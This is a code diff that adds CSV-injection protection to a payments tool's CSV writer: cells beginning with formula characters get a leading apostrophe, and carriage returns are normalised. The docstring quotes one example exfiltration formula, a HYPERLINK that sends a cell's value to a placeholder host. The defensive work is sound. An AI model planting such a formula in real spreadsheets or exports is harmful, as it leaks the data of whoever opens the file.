@@ -2,11 +2,19 @@
 
 Every CSV that shub-pay writes (the commands' `--format csv`, `report revenue --output`, the
 demo's file for finance) goes through `write_csv`, so a rule about CSV cells is kept in one place.
+
+The rule: no cell is a formula. A spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, a
+tab or a carriage return as a formula, so a creator who names a product
+`=HYPERLINK("http://x/?leak="&A1,"Click")` would otherwise run code on finance's machine (OWASP
+"CSV Injection"). Such a cell is written with a leading `'`, which spreadsheets show as text.
+A plain decimal number (`-12.50`, `+3`) is left alone: it cannot be a formula, and amounts must
+stay numbers for `SUM()`.
 """
 
 from __future__ import annotations
 
 import csv
+import re
 from collections.abc import Iterable, Mapping, Sequence
 from typing import Any, TextIO
 
@@ -16,10 +24,30 @@ def plain_cell(value: Any) -> str:
     return "" if value is None else str(value)
 
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")
+
+
+def safe_cell(cell: Any) -> Any:
+    """The cell as a spreadsheet will show it, never run it (see the module docstring).
+
+    A carriage return inside a cell becomes a line feed: Python's writer (3.11) quotes a field
+    for the line terminator (`\n`) but not for a lone `\r`, which readers take as a row end."""
+    if not isinstance(cell, str):
+        return cell
+    if "\r" in cell:
+        cell = cell.replace("\r\n", "\n").replace("\r", "\n")
+        if cell.startswith("\n"):
+            return "'" + cell
+    if cell.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(cell):
+        return "'" + cell
+    return cell
+
+
 def write_csv(out: TextIO, keys: Sequence[str], rows: Iterable[Sequence[str]]) -> None:
     writer = csv.writer(out, lineterminator="\n")
-    writer.writerow(keys)
-    writer.writerows(rows)
+    writer.writerow([safe_cell(k) for k in keys])
+    writer.writerows([safe_cell(c) for c in row] for row in rows)
 
 
 def write_records(out: TextIO, keys: Sequence[str], records: Iterable[Mapping[str, Any]]) -> None:
